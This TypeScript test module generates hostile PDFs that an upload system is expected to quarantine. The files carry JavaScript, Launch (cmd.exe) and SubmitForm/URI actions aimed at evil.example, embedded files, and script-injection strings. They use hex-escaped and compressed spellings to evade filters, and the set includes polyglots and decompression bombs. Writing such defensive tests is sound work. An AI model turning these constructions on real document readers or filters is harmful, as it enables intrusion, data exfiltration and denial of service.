import { deflateSync } from 'node:zlib'
import { latin1, pdf, ZIP_END, type Hostile } from '#domains/records/hostile-files/server/hostile/hostile.ts'

/** Objects that a PDF may not contain (reliability W7). */
const DANGERS = {
  javascript: '<< /S /JavaScript /JS (app.alert(1)) >>',
  'on opening': '<< /OpenAction << /S /URI /URI (http://evil.example) >> >>',
  launch: '<< /S /Launch /F (cmd.exe) >>',
  xfa: '<< /AcroForm << /XFA 4 0 R >> >>',
  'submits itself': '<< /S /SubmitForm /F (http://evil.example) >>',
  'imports data': '<< /S /ImportData /F (x.fdf) >>',
  film: '<< /Subtype /RichMedia >>',
  rendition: '<< /S /Rendition /JS (x) /R 9 0 R >>',
  'file inside': '<< /Type /EmbeddedFile >>',
  'files inside': '<< /Names << /EmbeddedFiles 3 0 R >> >>',
} as const

/** The same name in escaped spellings (ISO 32000-2 §7.3.5). */
const SPELLINGS = {
  plain: (said: string) => said,
  'first letter in hexadecimal': (said: string) => inNames(said, (name) => hex(name[0] ?? '') + name.slice(1)),
  'last letter in hexadecimal': (said: string) => inNames(said, (name) => name.slice(0, -1) + hex(name.at(-1) ?? '')),
  'all in hexadecimal': (said: string) => inNames(said, (name) => Array.from(name, hex).join('')),
} as const

const PLACES = {
  'as an object': (said: string) => pdf(`2 0 obj ${said} endobj`),
  compressed: (said: string) => pdf(objectStream(`2 0 ${said}`)),
  'compressed under another spelling': (said: string) => pdf(objectStream(`2 0 ${said}`).replace('/ObjStm', '/#4fbjStm')),
  'behind a false stream': (said: string) => pdf(`%stream\n2 0 obj ${said} endobj\nendstream`),
  'in a later version': (said: string) => latin1(`${pdf('').toString('latin1')}2 0 obj ${said} endobj\nstartxref\n9\n%%EOF\n`),
  'after a comment': (said: string) => pdf(`2 0 obj % nothing here\r${said} endobj`),
  'in the trailer': (said: string) => pdf('', `\ntrailer << /Root 1 0 R /X ${said} >>\nstartxref\n9\n%%EOF\n`),
} as const

const objectStream = (content: string): string =>
  `5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${deflateSync(latin1(content)).toString('latin1')}\nendstream\nendobj\n`

const hex = (letter: string): string => `#${letter.charCodeAt(0).toString(16)}`
const inNames = (said: string, change: (name: string) => string): string =>
  said.replace(/\/([A-Za-z]+)/g, (_, name: string) => `/${change(name)}`)

const OTHERS: readonly (readonly [string, Uint8Array])[] = [
  ['password', pdf('', '\ntrailer << /Root 1 0 R /Encrypt 9 0 R >>\nstartxref\n9\n%%EOF')],
  ['password in hexadecimal', pdf('', '\ntrailer << /Root 1 0 R /#45ncrypt 9 0 R >>\nstartxref\n9\n%%EOF')],
  ['half', latin1('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n')],
  ['without its end', pdf('', '\nstartxref\n9\n')],
  ['without its index', pdf('', '\n%%EOF')],
  ['only its first line', latin1('%PDF-1.7\n')],
  ['web page inside', pdf('<html><script>alert(1)</script></html>')],
  ['drawing inside', pdf('<svg onload="alert(1)">')],
  ['frame inside', pdf('<iframe src="javascript:alert(1)">')],
  ['archive on its end', Buffer.concat([pdf(''), ZIP_END])],
  ['program on its end', Buffer.concat([pdf(''), latin1('MZ\u0090\u0000this is a program')])],
  ['a hundred thousand pages', pdf('2 0 obj << /Type /Pages /Count 100000 >> endobj')],
  ['does not open', pdf('5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\nxx\nendstream\nendobj')],
  [
    'opens in two steps',
    pdf('5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n789c\nendstream\nendobj'),
  ],
  ['bomb', pdf(objectStream(' '.repeat(64 * 1024 * 1024)))],
  ['a bomb in parts', pdf(Array.from({ length: 12 }, () => objectStream(' '.repeat(4 * 1024 * 1024))).join(''))],
  ['no page at all', pdf('')],
  ['a page that is its own parent', pdf('2 0 obj << /Type /Pages /Kids [2 0 R] /Count 1 >> endobj')],
  ['ten thousand levels deep', pdf(`2 0 obj ${'['.repeat(10_000)}${']'.repeat(10_000)} endobj`)],
  ['a name without end', pdf(`2 0 obj /${'A'.repeat(1_000_000)} endobj`)],
]

/** Each danger in each place and spelling; `few` takes each danger once in each place, with alternating spellings. */
export function hostilePdfs({ few }: { few: boolean }): Hostile[] {
  const spellings = Object.entries(SPELLINGS)
  const said = Object.entries(DANGERS).flatMap(([danger, object], row) =>
    Object.entries(PLACES).flatMap(([place, put], column) =>
      spellings
        .filter((_, at) => !few || at === (row + column) % spellings.length)
        .map(([spelling, spell]) => ({
          name: `${danger}, ${place}, ${spelling}.pdf`,
          bytes: put(spell(object)),
          ends: 'quarantined' as const,
        })),
    ),
  )
  return [...said, ...OTHERS.map(([name, bytes]) => ({ name: `${name}.pdf`, bytes, ends: 'quarantined' as const }))]
}
